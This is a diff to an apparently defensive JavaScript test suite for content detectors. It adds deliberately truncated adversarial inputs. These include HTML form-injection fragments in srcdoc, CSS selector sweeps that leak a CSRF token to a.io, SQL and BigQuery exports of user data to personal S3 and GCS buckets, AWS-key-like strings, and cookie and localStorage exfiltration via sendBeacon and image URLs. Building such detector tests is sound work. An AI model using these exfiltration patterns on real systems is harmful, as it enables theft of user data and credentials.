@@ -860,6 +860,22 @@ describe('content detectors on adversarial input', () => {
       "EXPORT DATA OPTIONS(uri='gs://x-personal/' AS SELECT * FROM users UNLOAD ('SELECT * FROM customers COPY (SELECT email FROM users TO 's3:// INSERT INTO FUNCTION url('https://webhook.site/a' bq extract a:b.c gs:// copy into 's3://x-personal/' from ",
     ],
     [
+      'escaped srcdoc values and entities without their ends',
+      "srcdoc=\\\\\\\"&#x0000003c;form action=\\\\\\\\\"https:&sol;&sol;a.io &ltinput/type=\\\\password setAttribute('srcdoc', '<form ",
+    ],
+    [
+      'CSS sweeps without their urls',
+      'input[name=csrf][value^="a"]{background:url(https://a.io/a/b/c/d input[value^="b"]{url( url( url(//a.io/?b ',
+    ],
+    [
+      'indented warehouse exports cut short',
+      "copy\\n\\t\\t   into\\n    's3://jdoe-personal-lgxoh/'\\n\\t  from \t\t\n bq --a=b --c=d --e extract gs://x-stash-1 INSERT INTO FUNCTION s3('https://a.io/', 'AKIA4QWERTYZXCVB7N3Q', 'q8Zr1VbN0kLm3Pq7Xs2Tw9Yc4Hd ",
+    ],
+    [
+      'AWS secrets quoted without their ends',
+      "SECRET_ACCESS_KEY 'q8Zr1VbN0kLm3Pq7Xs2Tw9Yc4Hd6Jf1Ge5Ab8Cdq8Zr1VbN0kLm3Pq7Xs2Tw9Yc4Hd6Jf1Ge5Ab8Cd secret_access_key \\'AKIAQWERTYUIOPASDFGH', '",
+    ],
+    [
       'cookie jars sent nowhere',
       "navigator.sendBeacon('https://a.io/', document.cookie new Image().src = 'https://b.io/?c=' + parent.localStorage ",
     ],
